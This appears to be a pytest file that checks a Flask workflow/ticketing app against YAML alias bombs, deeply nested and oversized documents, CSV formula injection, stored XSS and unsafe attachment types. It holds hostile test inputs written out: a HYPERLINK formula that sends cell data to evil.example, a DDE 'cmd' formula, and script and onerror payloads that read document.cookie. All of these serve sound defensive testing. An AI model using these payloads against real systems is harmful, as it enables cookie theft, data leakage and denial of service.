"""Input and rendering attacks (issue 13: findings 2, 6, 7, 10 and part of 12), each as "attack → answer".

Every attack goes through the real HTTP entry point (the Flask test client) and runs on
SQLite and PostgreSQL; the answer is what a user or client sees, and the rows that did not change.
"""
from __future__ import annotations

import io
import time
import tracemalloc

from input_kit import (JsonServer, add_api, api_call, billion_laughs, counts, incident, make_api_app, run_scheduler,
                       submit, text_of, ticket_row)


# --- 6. YAML alias bombs ------------------------------------------------------------------

def _refused_quickly(send):
    """Run `send()`; it must answer in well under a second and without building the document."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = send()
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 2, f"took {elapsed:.1f} s"
    assert peak < 50 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    return result


def test_alias_bomb_sent_to_import_service_is_refused_at_once(demo):
    make_api_app(demo)
    client, before = demo.test_client(), counts(demo)
    status, body = _refused_quickly(lambda: api_call(client, "import_service", key="bomb", name="炸弹",
                                                     workflow=billion_laughs()))
    assert status == 200 and body["result"] is False and body["code"] == 3900005
    assert "anchors and aliases" in body["message"] and ":1:" in body["message"]
    assert counts(demo) == before


def test_alias_bomb_in_the_flow_editors_live_validation_is_refused_at_once(browser):
    admin = browser("admin")
    response = _refused_quickly(lambda: admin.post("/admin/flow/validate/", {"source": billion_laughs()}))
    assert response.status_code == 200
    answer = response.get_json()
    assert answer["ok"] is False and "anchors and aliases" in answer["errors"][0]


def test_alias_bomb_in_flow_import_is_refused_at_once(browser, demo):
    admin, before = browser("admin"), counts(demo)
    response = _refused_quickly(lambda: admin.post("/admin/flow/import/", {"text": billion_laughs()}))
    assert response.status_code == 400
    assert "anchors and aliases" in text_of(response)
    assert counts(demo) == before


def test_an_anchor_in_an_otherwise_valid_flow_is_refused_naming_its_line(browser):
    source = ("key: f\nname: F\nservice_type: request\nnodes:\n"
              "  - {key: s, name: 提单, kind: start, fields: &fs [{key: title, name: 标题, type: STRING}]}\n"
              "  - {key: a, name: 审批, kind: manual, processors: {type: STARTER}, fields: *fs}\n"
              "  - {key: e, name: 结束, kind: end}\n"
              "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    answer = browser("admin").post("/admin/flow/validate/", {"source": source}).get_json()
    assert answer["ok"] is False
    assert answer["errors"][0].startswith("<editor>:5:") and "anchors and aliases" in answer["errors"][0]


def test_a_document_nested_ten_thousand_deep_is_refused_not_a_crash(browser):
    admin = browser("admin")
    for source in ("[" * 10000 + "]" * 10000, '{\n\t"key": ' + "[" * 10000 + "]" * 10000 + "}"):
        answer = _refused_quickly(lambda: admin.post("/admin/flow/validate/", {"source": source})).get_json()
        assert answer["ok"] is False and "nested too deep" in answer["errors"][0]


def test_a_flow_document_over_one_mebibyte_is_refused(demo):
    make_api_app(demo)
    before = counts(demo)
    status, body = api_call(demo.test_client(), "import_service", key="big", name="大",
                            workflow="# " + "x" * (1024 * 1024) + "\nkey: big\n")
    assert body["code"] == 3900005 and "document too large" in body["message"]
    assert counts(demo) == before


# --- 12 (part). CSV formulas, notice HTML, attachment types ------------------------------------

def test_formula_in_a_service_name_is_neutralized_in_the_statistics_csv(browser, demo, make_service):
    flow = ("key: evil\nname: '=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")'\nservice_type: request\nnodes:\n"
            "  - {key: s, name: '@SUM(1+1)', kind: start, fields: [{key: title, name: 标题, type: STRING}]}\n"
            "  - {key: a, name: '-2+3', kind: manual, processors: {type: PERSON, value: [admin]}}\n"
            "  - {key: e, name: 结束, kind: end}\n"
            "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    make_service(flow)
    alice = browser("alice")
    submit(alice, demo, "evil", {"title": "+cmd|' /C calc'!A0"})
    csv = browser("admin").get("/statistics/top_services.csv").get_data(as_text=True)
    assert "'=HYPERLINK(" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"' in csv


def test_ticket_title_in_an_admin_notice_templates_html_block_is_escaped(browser, demo):
    from app.extensions import db
    from app.models import Notification, Ticket
    from app.services.notify.delivery import build_message

    admin = browser("admin")
    template = ("{% block subject %}待办 {{ ticket.title }}{% endblock %}{% block body %}{{ ticket.title }}{% endblock %}"
                "{% block html %}<p>单据 <b>{{ ticket.title }}</b></p>{% endblock %}")
    response = admin.post("/admin/notifysettings/template/todo/", {"source": template})
    assert response.status_code in (200, 302)
    ticket_id = submit(browser("alice"), demo, "account_apply",
                       {"title": "<img src=x onerror=alert(1)>", "system": "crm", "account_type": "permanent",
                        "reason": "工作需要"})
    with demo.app_context():
        ticket = db.session.get(Ticket, ticket_id)
        notice = db.session.query(Notification).filter_by(ticket_id=ticket_id, kind="todo").first()
        message = build_message(notice, ticket)
        db.session.remove()
    assert "<img" not in message.html and "&lt;img src=x onerror=alert(1)&gt;" in message.html
    assert "<b>" in message.html                          # the admin's own markup stays
    assert "<img src=x onerror=alert(1)>" in message.text   # plain text stays as typed


def test_attachment_uploaded_as_text_html_is_served_as_a_download_with_a_safe_type(browser, demo):
    alice = browser("alice")
    upload = (io.BytesIO(b"<script>alert(document.cookie)</script>"), "notes.txt", "text/html")
    ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
                       content_type="multipart/form-data")
    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
    response = alice.get(f"/tickets/attachments/{stored['id']}")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/plain")
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_attachment_with_an_extension_off_the_type_list_is_served_as_octet_stream(browser, demo):
    demo.config["UPLOAD_EXTENSIONS"].append("html")
    try:
        alice = browser("alice")
        upload = (io.BytesIO(b"<script>alert(1)</script>"), "page.html", "text/html")
        ticket_id = submit(alice, demo, "incident_handle", incident(attachments=upload),
                           content_type="multipart/form-data")
    finally:
        demo.config["UPLOAD_EXTENSIONS"].remove("html")
    (stored,) = ticket_row(demo, ticket_id).values["attachments"]
    response = alice.get(f"/tickets/attachments/{stored['id']}")
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


# --- 2. Stored XSS through automation ------------------------------------------------------

XSS = '<p>ok</p><img src=x onerror="alert(document.cookie)"><script>alert(1)</script><a href="javascript:alert(2)">x</a>'
AUTOMATED_FLOW = """
key: auto_report
name: 自动报告
service_type: request
nodes:
  - key: submit
    name: 提单
    kind: start
    fields:
      - {key: title, name: 标题, type: STRING, required: true}
      - {key: host, name: 主机, type: STRING}
  - key: lookup
    name: 查询 CMDB
    kind: api
    api: cmdb.lookup
    processors: {type: PERSON, value: [admin]}
    params:
      response: {report: data.report}
    fields:
      - {key: report, name: 报告, type: RICHTEXT}
  - key: copy
    name: 复制说明
    kind: automation
    plugin: set_fields
    params:
      fields: {summary: "主机 {{ fields.host }}"}
    fields:
      - {key: summary, name: 摘要, type: RICHTEXT}
  - key: review
    name: 复核
    kind: manual
    processors: {type: STARTER}
  - {key: end, name: 结束, kind: end}
transitions:
  - {from: submit, to: lookup}
  - {from: lookup, to: copy}
  - {from: copy, to: review}
  - {from: review, to: end}
"""


def _assert_no_script(html: str) -> None:
    """No live markup of the payload (escaped text, as a STRING field shows it, is harmless)."""
    for live in ('onerror="', "onerror=alert", "<script>alert", 'href="javascript:', "<img src=x"):
        assert live not in html, live


def test_html_an_api_node_writes_into_a_richtext_field_is_sanitized_before_it_is_stored_and_shown(
        browser, demo, make_service):
    server = JsonServer({"result": True, "data": {"report": XSS}})
    try:
        add_api(demo, server.url)
        make_service(AUTOMATED_FLOW)
        alice = browser("alice")
        ticket_id = submit(alice, demo, "auto_report", {"title": "查询主机", "host": "db01"})
        assert run_scheduler(demo) == 1 and run_scheduler(demo) == 1     # the api node, then the plugin
    finally:
        server.close()
    stored = ticket_row(demo, ticket_id).values["report"]
    assert "<p>ok</p>" in stored
    _assert_no_script(stored)
    for url in (f"/tickets/{ticket_id}", f"/tickets/{ticket_id}/print"):
        page = alice.get(url)
        assert page.status_code == 200 and "<p>ok</p>" in page.get_data(as_text=True)
        _assert_no_script(page.get_data(as_text=True))


def test_html_a_requester_smuggles_through_an_automation_plugin_into_richtext_is_sanitized(
        browser, demo, make_service):
    server = JsonServer({"result": True, "data": {"report": "<b>正常</b>"}})
    try:
        add_api(demo, server.url)
        make_service(AUTOMATED_FLOW)
        alice = browser("alice")
        ticket_id = submit(alice, demo, "auto_report", {"title": "查询主机", "host": XSS})
        run_scheduler(demo), run_scheduler(demo)
    finally:
        server.close()
    stored = ticket_row(demo, ticket_id).values["summary"]
    assert stored.startswith("主机 <p>ok</p>")
    _assert_no_script(stored)
    _assert_no_script(alice.get(f"/tickets/{ticket_id}").get_data(as_text=True))


def test_richtext_stored_unsanitized_before_the_fix_is_sanitized_when_shown(browser, demo):
    from app.extensions import db
    from app.infra.uow import commit
    from app.models import Ticket, TicketStep

    flow = ("key: rich\nname: 富文本\nservice_type: request\nnodes:\n"
            "  - {key: s, name: 提单, kind: start, fields: [{key: title, name: 标题, type: STRING},"
            " {key: body, name: 正文, type: RICHTEXT}]}\n"
            "  - {key: a, name: 审批, kind: manual, processors: {type: STARTER}}\n"
            "  - {key: e, name: 结束, kind: end}\n"
            "transitions:\n  - {from: s, to: a}\n  - {from: a, to: e}\n")
    from app.services.catalog.browse import ensure_service
    from app.services.flows.library import deploy_flow, save_flow_source

    with demo.app_context():
        row = save_flow_source(flow, by="test")
        version = deploy_flow(row.key, by="test")
        ensure_service(row.key, row.name, service_type="request", flow_version_id=version.id)
        commit()
    alice = browser("alice")
    ticket_id = submit(alice, demo, "rich", {"title": "旧数据", "body": "<p>旧</p>"})
    with demo.app_context():          # what an older version (or a direct database write) left behind
        ticket = db.session.get(Ticket, ticket_id)
        ticket.values = {**ticket.values, "body": XSS}
        step = db.session.query(TicketStep).filter_by(ticket_id=ticket_id, node_key="s").one()
        step.data = {**step.data, "body": XSS}
        commit()
    for url in (f"/tickets/{ticket_id}", f"/tickets/{ticket_id}/print"):
        page = alice.get(url).get_data(as_text=True)
        assert "<p>ok</p>" in page
        _assert_no_script(page)
